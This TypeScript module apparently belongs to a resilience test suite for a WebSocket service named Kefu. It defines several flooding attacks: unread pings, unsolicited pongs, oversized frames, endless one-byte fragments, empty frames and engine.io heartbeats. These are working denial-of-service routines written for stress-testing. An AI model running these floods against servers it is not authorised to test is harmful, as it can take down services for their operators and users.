// Frames that the WebSocket layer answers or collects before Kefu sees a packet.

import { type Attack, attack, type Budget, type Target } from '../attack.ts'
import { newCustomer } from '../wire/accounts.ts'
import { repeatedly } from '../wire/raw-socket.ts'
import { frame, openWebSocket, type RawWebSocket, times } from '../wire/web-socket.ts'

interface Flood {
  connections?: number
  frames: Buffer
  /** Frames per write. */
  count: number
  reads?: boolean
  token?: string
}

/** Writes the same frames while the connection accepts them and reconnects when the server ends it. */
export async function floodFrames(target: Target, budget: Budget, flood: Flood): Promise<void> {
  const { connections = 1, frames, count, reads = true, token } = flood
  await repeatedly(budget, connections, async () => {
    budget.count('connections')
    const raw = await openWebSocket(target, token === undefined ? {} : { token }).catch((error: unknown) => {
      budget.count('refusals')
      throw error
    })
    if (!reads) raw.stopReading()
    await writeUntilOver(budget, raw, frames, count)
  })
}

async function writeUntilOver(budget: Budget, raw: RawWebSocket, frames: Buffer, count: number): Promise<void> {
  void budget.over.then(raw.end)
  while (raw.isOpen() && !budget.isOver()) {
    budget.count('requests', count)
    budget.count('bytes', frames.length)
    await raw.write(frames)
  }
  if (!budget.isOver()) budget.count('cuts')
  raw.end()
}

const ping = frame('ping', Buffer.alloc(125, 97))

/** A text message in 4,000 fragments of one byte. */
const pieces = Buffer.concat([frame('text', '4', false), times(4_000, frame('continuation', 'a', false))])

export const controlFrames: Attack[] = [
  attack({
    name: 'pings-unread',
    ids: ['S1'],
    what: 'one connection without a token sends pings of 125 bytes and reads nothing',
    floor: { requests: 40_000 },
    run: (target, budget) => floodFrames(target, budget, { frames: times(500, ping), count: 500, reads: false }),
  }),
  attack({
    name: 'pings-unread-with-token',
    ids: ['S1'],
    what: 'the same by a customer',
    floor: { requests: 40_000 },
    prepare: newCustomer,
    run: (target, budget, { token }) =>
      floodFrames(target, budget, { frames: times(500, ping), count: 500, reads: false, token }),
  }),
  attack({
    name: 'pings-read',
    ids: ['S1'],
    what: 'ten connections send empty pings and read the pongs',
    floor: { requests: 40_000 },
    run: (target, budget) =>
      floodFrames(target, budget, { connections: 10, frames: times(500, frame('ping')), count: 500 }),
  }),
  attack({
    name: 'pongs-unasked',
    ids: ['S1'],
    what: 'four connections send unsolicited pongs',
    floor: { requests: 40_000 },
    run: (target, budget) =>
      floodFrames(target, budget, { connections: 4, frames: times(500, frame('pong')), count: 500 }),
  }),
  attack({
    name: 'large-frames',
    ids: ['S1', 'new'],
    what: 'a customer sends endless frames of 120 KB and reads no reply',
    floor: { bytes: 5_000_000 },
    prepare: newCustomer,
    run: (target, budget, { token }) =>
      floodFrames(target, budget, {
        connections: 4,
        frames: frame('text', `420${JSON.stringify(['nothing', 'a'.repeat(120_000)])}`),
        count: 1,
        reads: false,
        token,
      }),
  }),
  attack({
    name: 'tiny-fragments',
    ids: ['new'],
    what: 'forty connections send a message in fragments of one byte that never ends',
    floor: { requests: 20_000 },
    run: (target, budget) => floodFrames(target, budget, { connections: 40, frames: pieces, count: 4_001 }),
  }),
  attack({
    name: 'empty-frames',
    ids: ['new'],
    what: 'four connections send empty text frames',
    floor: { requests: 4 },
    run: (target, budget) =>
      floodFrames(target, budget, { connections: 4, frames: times(500, frame('text')), count: 500 }),
  }),
  attack({
    name: 'heartbeats',
    ids: ['new'],
    what: 'four connections send engine.io heartbeats without pause',
    floor: { requests: 20_000 },
    run: (target, budget) =>
      floodFrames(target, budget, { connections: 4, frames: times(500, frame('text', '3')), count: 500 }),
  }),
]
